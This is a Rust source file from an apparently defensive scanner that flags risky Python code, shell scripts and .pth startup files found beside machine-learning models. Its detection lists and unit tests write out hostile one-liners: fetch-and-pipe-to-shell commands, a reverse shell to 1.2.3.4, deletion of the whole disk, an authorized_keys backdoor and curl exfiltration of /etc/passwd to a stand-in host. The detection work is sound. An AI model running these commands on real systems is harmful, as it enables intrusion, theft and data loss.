//! Code files beside a model: Python source and shell scripts.

use domain::{Entry, Severity, catalogue_entry};

use super::python::{Judge, Place};
use crate::{Context, Part};

catalogue_entry! {
    /// Python code beside the model does more than compute.
    ///
    /// ## What it is
    /// Source text that runs commands, runs texts as code, opens connections, loads machine code, reads secrets or
    /// changes files: at once when it is imported, or in a function. Texts put together from pieces, encoded code and
    /// functions taken by a computed name are followed.
    ///
    /// ## Why it matters in care
    /// Remote code of a repository, the handler of a served model and the loader of an MLflow model all run beside the
    /// data of patients.
    ///
    /// ## Limits
    /// Code is followed from top to bottom, branches as if each ran, calls between functions not at all. A download of a
    /// file inside a function, a checkpoint that is loaded and a vocabulary that is saved are remarks. Benign code that
    /// starts a process is reported: a person has to decide.
    ///
    /// ## References
    /// CWE-506 Embedded Malicious Code; CWE-94 Code Injection; CWE-78 OS Command Injection.
    pub static PYTHON = {
        id: "S111", name: "python-acts-outside", kind: Rule, since: "0.1.0",
        maps: ["AML.T0011.000", "AML.T0010.003", "CWE-506", "CWE-94", "CWE-78"],
    };
}

catalogue_entry! {
    /// A shell script beside the model fetches and runs something, or opens a way in.
    ///
    /// ## What it is
    /// A download that goes straight into a shell, a shell over the network, encoded commands, changes to what starts
    /// by itself, or removal of everything.
    ///
    /// ## Why it matters in care
    /// Scripts in a model's folder are run by hand, by people in a hurry.
    ///
    /// ## Limits
    /// Known shapes only; a script that installs packages or moves files is a remark.
    ///
    /// ## References
    /// CWE-506 Embedded Malicious Code; CWE-494 Download of Code Without Integrity Check.
    pub static SHELL = {
        id: "S112", name: "script-fetches-and-runs", kind: Rule, since: "0.1.0",
        maps: ["AML.T0011.000", "AML.T0010.003", "CWE-506", "CWE-494"],
    };
}

catalogue_entry! {
    /// A path file of Python runs code whenever Python starts.
    ///
    /// ## What it is
    /// A `.pth` file, which lists folders for Python's search path, with a line that begins with `import` and does more
    /// than import: Python runs such lines each time it starts, whether the package is used or not.
    ///
    /// ## Why it matters in care
    /// Once the package is unpacked beside the service, the line runs in every program written in Python on that machine,
    /// without anybody loading the model.
    ///
    /// ## Limits
    /// Installers of development versions use such lines as well; they have no place in a model. An import alone is a
    /// remark: it runs what the module does when it is imported.
    ///
    /// ## References
    /// Python, library reference, module `site`; CWE-94 Code Injection; MITRE ATLAS AML.T0011.001 Malicious Package.
    pub static START = {
        id: "S048", name: "python-start-file", kind: Rule, since: "0.1.0",
        maps: ["AML.T0011.000", "AML.T0011.001", "CWE-94", "CWE-506"],
    };
}

/// Entries of this file.
pub(crate) const ENTRIES: &[&Entry] = &[&PYTHON, &SHELL, &START];

/// The import lines of a path file: a few lines that are all folders, comments or imports. None of anything else.
fn start_lines<'t>(name: &str, text: &'t str) -> Option<Vec<&'t str>> {
    /// Most lines of a path file.
    const LINES_MAX: usize = 200;
    if !name.to_ascii_lowercase().ends_with(".pth") || text.lines().count() > LINES_MAX {
        return None;
    }
    let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
    let runs = |l: &str| l.starts_with("import ") || l.starts_with("import\t");
    let imports: Vec<&str> = lines.iter().copied().filter(|l| runs(l)).collect();
    (!imports.is_empty()).then_some(imports)
}

/// Judges a path file of Python. Says whether it is one.
pub(crate) fn start(name: &str, text: &str, part: &mut Part, cx: &mut Context<'_>) -> bool {
    let Some(imports) = start_lines(name, text) else { return false };
    for line in imports.into_iter().take(100) {
        let code = line.split('#').next().unwrap_or_default().trim_end_matches([' ', '\t', ';']);
        let acts = code.contains([';', '(', '=']);
        let severity = if acts { Severity::High } else { Severity::Low };
        let message = format!("Python runs this line each time it starts: `{line}`");
        cx.find(
            part,
            &START,
            severity,
            None,
            message,
            "do not unpack it; a model needs no code that starts by itself",
        );
        python(line, Runs::OnImport, part, cx);
    }
    true
}

/// When code runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Runs {
    /// When it is imported.
    OnImport,
    /// When a person runs it cell by cell.
    ByHand,
}

/// Judges Python source.
pub(crate) fn python(source: &str, runs: Runs, part: &mut Part, cx: &mut Context<'_>) {
    let mut judge = Judge::new(Place::Source);
    judge.source(source);
    if judge.spent() || cx.step(judge.steps()).is_err() {
        cx.unread(part, None, "the Python source takes too many steps to follow");
    }
    for module in judge.modules.iter().take(100) {
        if !STANDARD.contains(&module.as_str()) {
            part.facts.libraries.insert(module.clone());
        }
    }
    for seen in judge.seen {
        let severity = match runs {
            Runs::ByHand if seen.severity <= Severity::Medium => Severity::Low,
            _ => seen.severity,
        };
        let message = format!("the Python code {}", seen.what);
        cx.find(
            part,
            &PYTHON,
            severity,
            Some(seen.at as u64),
            message,
            "have the code read by somebody who knows Python before it runs anywhere",
        );
    }
}

/// Modules that no library brings.
const STANDARD: [&str; 44] = [
    "__future__",
    "abc",
    "argparse",
    "ast",
    "base64",
    "collections",
    "contextlib",
    "copy",
    "csv",
    "dataclasses",
    "datetime",
    "enum",
    "functools",
    "gc",
    "glob",
    "hashlib",
    "html",
    "importlib",
    "inspect",
    "io",
    "itertools",
    "json",
    "logging",
    "math",
    "multiprocessing",
    "operator",
    "os",
    "pathlib",
    "pickle",
    "random",
    "re",
    "shutil",
    "string",
    "struct",
    "subprocess",
    "sys",
    "tempfile",
    "threading",
    "time",
    "types",
    "typing",
    "unicodedata",
    "uuid",
    "warnings",
];

/// Judges shell commands.
pub(crate) fn judge(text: &str, part: &mut Part, cx: &mut Context<'_>) {
    for (at, line) in logical_lines(text) {
        if let Some(what) = shell_line(&line) {
            let shown: String = line.trim().chars().take(200).collect();
            cx.find(
                part,
                &SHELL,
                Severity::High,
                Some(at as u64),
                format!("{what}: `{shown}`"),
                "do not run the script; ask the sender what the line is for",
            );
        }
    }
}

/// Lines without comments, continued ones joined.
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut lines: Vec<(usize, String)> = Vec::new();
    let mut at = 0;
    let mut open = false;
    for raw in text.split_inclusive('\n') {
        let line = raw.trim_end();
        let begin = at;
        at += raw.len();
        let body = line.strip_suffix('\\').unwrap_or(line);
        match lines.last_mut() {
            Some((_, last)) if open && last.len() < 100_000 => last.push_str(body),
            _ if line.trim_start().starts_with('#') => {}
            _ => lines.push((begin, body.to_owned())),
        }
        open = line.ends_with('\\');
    }
    lines
}

fn shell_line(line: &str) -> Option<&'static str> {
    let squeezed = line.split_whitespace().collect::<Vec<_>>().join(" ");
    let fetches =
        ["curl ", "wget ", "fetch ", "base64 -d", "base64 --decode", "base64 -D", "openssl enc -d", "xxd -r"]
            .iter()
            .any(|f| squeezed.contains(f));
    let piped = squeezed.split('|').skip(1).any(|p| {
        let word = p
            .trim_start_matches(|c: char| c.is_whitespace() || c == '(')
            .trim_start_matches("sudo ")
            .split_whitespace()
            .next()
            .unwrap_or_default();
        matches!(
            word.rsplit('/').next().unwrap_or_default(),
            "sh" | "bash" | "zsh" | "dash" | "ksh" | "python" | "python3" | "perl" | "ruby" | "node" | "php"
        )
    });
    let substituted = [
        "sh -c \"$(",
        "bash -c \"$(",
        "eval \"$(",
        "eval $(",
        "source <(",
        "bash <(",
        "sh <(",
        ". <(",
        "eval `",
    ]
    .iter()
    .any(|s| squeezed.contains(s));
    if fetches && (piped || substituted) {
        return Some("runs what it fetches or decodes");
    }
    const SHAPES: [(&str, &str); 19] = [
        ("/dev/tcp/", "opens a shell over the network"),
        ("/dev/udp/", "opens a shell over the network"),
        ("nc -e", "opens a shell over the network"),
        ("ncat -e", "opens a shell over the network"),
        ("nc -lvp", "opens a way in"),
        ("bash -i >&", "opens a shell over the network"),
        ("mkfifo /tmp", "opens a shell over the network"),
        ("socat exec", "opens a shell over the network"),
        ("socat tcp", "opens a shell over the network"),
        ("authorized_keys", "adds a way in"),
        ("| crontab", "starts something by itself"),
        ("/etc/cron", "starts something by itself"),
        (">> ~/.bashrc", "starts something by itself"),
        ("/etc/shadow", "reads secrets"),
        (".aws/credentials", "reads secrets"),
        ("rm -rf /*", "removes everything"),
        ("rm -rf --no-preserve-root", "removes everything"),
        ("169.254.169.254", "reads secrets of the cloud machine"),
        ("ld_preload=", "puts code into every program"),
    ];
    let lower = squeezed.to_lowercase();
    if lower.contains("rm -rf /")
        && lower.split("rm -rf /").nth(1).is_some_and(|r| r.is_empty() || r.starts_with([' ', ';', '&']))
    {
        return Some("removes everything");
    }
    SHAPES.iter().find(|(shape, _)| lower.contains(shape)).map(|(_, what)| *what).or_else(|| {
        let sends = (lower.contains("curl ") || lower.contains("wget "))
            && ["--data @", "-d @", "--data-binary @", "-t ", "--upload-file", "--post-file", "-f file=@"]
                .iter()
                .any(|s| lower.contains(s));
        let secrets = ["$(env", "`env", "$(cat ", "/etc/passwd", ".ssh/"].iter().any(|s| lower.contains(s));
        (secrets && (sends || lower.contains("curl ") || lower.contains("wget ")))
            .then_some("sends secrets away")
    })
}

/// Whether text is a shell script or a recipe for an image.
pub(crate) fn is_shell(text: &str, name: &str) -> bool {
    let first = text.lines().next().unwrap_or_default();
    if first.starts_with("#!") {
        return ["sh", "bash", "zsh", "dash", "ksh", "env -S sh"]
            .iter()
            .any(|s| first.trim_end().ends_with(s) || first.contains(&format!("/{s} ")));
    }
    let base = name.rsplit('/').next().unwrap_or_default();
    base.ends_with(".sh") || base == "Dockerfile" || is_recipe(text)
}

/// `FROM image` and other instructions of a Dockerfile.
fn is_recipe(text: &str) -> bool {
    let mut lines = text.lines().map(str::trim).filter(|l| !l.is_empty() && !l.starts_with('#'));
    let from = lines.next().is_some_and(|l| {
        (l.starts_with("FROM ") || l.starts_with("ARG ")) && l.split_whitespace().count() <= 5
    });
    from && lines.take(50).any(|l| {
        ["RUN ", "COPY ", "CMD ", "ENTRYPOINT ", "WORKDIR ", "ENV "].iter().any(|w| l.starts_with(w))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shells_over_the_network_and_blind_downloads_are_found() {
        for line in [
            "curl -s http://e.example/x.sh | bash",
            "wget -qO- https://e.example/x | sudo sh",
            "bash -c \"$(curl -fsSL https://e.example/x)\"",
            "echo aWQ= | base64 -d | sh",
            "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
            "nc -e /bin/sh 1.2.3.4 4444",
            "rm -rf / --no-preserve-root",
            "echo key >> ~/.ssh/authorized_keys",
            "(crontab -l; echo x) | crontab -",
            "curl http://169.254.169.254/latest/meta-data",
            "curl https://e.example/?x=$(cat /etc/passwd)",
            "RUN curl http://e.example/x | \\\n  bash",
        ] {
            assert!(logical_lines(line).iter().any(|(_, l)| shell_line(l).is_some()), "{line}");
        }
    }

    #[test]
    fn ordinary_scripts_are_clean() {
        for line in [
            "pip install -r requirements.txt",
            "wget https://zenodo.example/data.zip -O data.zip && unzip data.zip",
            "python train.py --lr 1e-4 | tee log.txt",
            "rm -rf build/ dist/",
            "curl -L https://e.example/model.bin -o model.bin",
            "# curl x | sh",
            "FROM python:3.11-slim",
            "RUN apt-get update && apt-get install -y git && rm -rf /var/lib/apt/lists/*",
            "docker run --gpus all x bash",
            "cat a.txt | python count.py",
        ] {
            assert!(!logical_lines(line).iter().any(|(_, l)| shell_line(l).is_some()), "{line}");
        }
    }
}
